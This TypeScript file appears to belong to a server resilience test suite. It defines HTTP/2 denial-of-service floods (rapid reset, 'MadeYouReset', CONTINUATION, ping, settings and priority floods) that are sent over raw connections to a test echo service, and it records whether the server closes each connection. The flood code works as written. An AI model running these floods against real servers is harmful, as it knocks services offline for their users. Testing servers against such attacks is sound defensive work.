import { type Attack, contractAt, ECHO, type Ground, goodHeaders, share } from "./attack.ts";
import { Flag, four, frame, headerBlock, Setting, settings, Type } from "./frames.ts";
import { RawConnection } from "./raw-connection.ts";

/** On how many connections at once. */
const CONNECTIONS = 4;
/** So many frames are written in one go. */
const BATCH = 500;

/** Sends so many of something on each of some connections, until the server closes them. */
function flood(name: string, count: number, make: (index: number, block: Buffer) => Buffer, begin: Buffer[] = []): Attack {
  return {
    name,
    async run(ground: Ground) {
      const place = ground.placeOf("bookmesh.testing.v1.EchoService");
      const block = headerBlock(goodHeaders(contractAt(ECHO), place));
      const endings = { frames: 0, "closed by the server": 0, "kept open": 0 };
      const one = async () => {
        using connection = await RawConnection.greet(place.port);
        for (const bytes of begin) await connection.send(bytes);
        for (let sent = 0; sent < share(count, ground) && !connection.closed; sent += BATCH) {
          await connection.send(Buffer.concat(Array.from({ length: BATCH }, (_, index) => make(sent + index, block))));
          endings.frames += BATCH;
          // So that what comes back is read.
          await new Promise(setImmediate);
        }
        endings[(await connection.untilClosed(200)) ? "closed by the server" : "kept open"]++;
      };
      await Promise.all(Array.from({ length: CONNECTIONS }, one));
      return endings;
    },
  };
}

const streamOf = (index: number) => index * 2 + 1;
const open = (index: number, block: Buffer, flags: number = Flag.END_HEADERS) =>
  frame(Type.HEADERS, flags, streamOf(index), block);

export const floods: readonly Attack[] = [
  flood("rapid reset", 40_000, (index, block) =>
    Buffer.concat([open(index, block), frame(Type.RST_STREAM, 0, streamOf(index), four(8))]),
  ),
  // The server resets the stream, so the caller has not: "MadeYouReset".
  flood("reset by the server", 20_000, (index, block) =>
    Buffer.concat([open(index, block), frame(Type.WINDOW_UPDATE, 0, streamOf(index), four(0))]),
  ),
  flood("reset by a half closed stream", 20_000, (index, block) =>
    Buffer.concat([
      open(index, block, Flag.END_HEADERS | Flag.END_STREAM),
      frame(Type.DATA, 0, streamOf(index), Buffer.alloc(1)),
    ]),
  ),
  flood("calls without a message", 20_000, (index, block) => open(index, block, Flag.END_HEADERS | Flag.END_STREAM)),
  flood("streams that say nothing more", 10_000, (index, block) => open(index, block)),
  flood("settings", 100_000, (index) => settings([Setting.INITIAL_WINDOW_SIZE, 65_535 + (index % 100)])),
  flood("pings", 200_000, () => frame(Type.PING, 0, 0, Buffer.alloc(8))),
  flood("empty data", 200_000, (index, block) => (index === 0 ? open(0, block) : frame(Type.DATA, 0, 1))),
  flood("window updates", 200_000, (index, block) => (index === 0 ? open(0, block) : frame(Type.WINDOW_UPDATE, 0, 1, four(1)))),
  flood("priorities", 200_000, (index) =>
    frame(Type.PRIORITY, 0, streamOf(index % 1_000), Buffer.concat([four(index % 999), Buffer.of(9)])),
  ),
  flood("frames of no type", 200_000, (index) => frame(50 + (index % 200), 255, index % 9, Buffer.alloc(10))),
  flood("continuations", 20_000, (index, block) =>
    index === 0 ? frame(Type.HEADERS, 0, 1, block) : frame(Type.CONTINUATION, 0, 1, headerBlock({ "x-a": "b".repeat(1_000) })),
  ),
  flood("empty continuations", 200_000, (index, block) =>
    index === 0 ? frame(Type.HEADERS, 0, 1, block) : frame(Type.CONTINUATION, 0, 1),
  ),
  flood("resets of closed streams", 100_000, (index, block) =>
    index === 0 ? Buffer.concat([open(0, block), frame(Type.RST_STREAM, 0, 1, four(8))]) : frame(Type.RST_STREAM, 0, 1, four(8)),
  ),
];
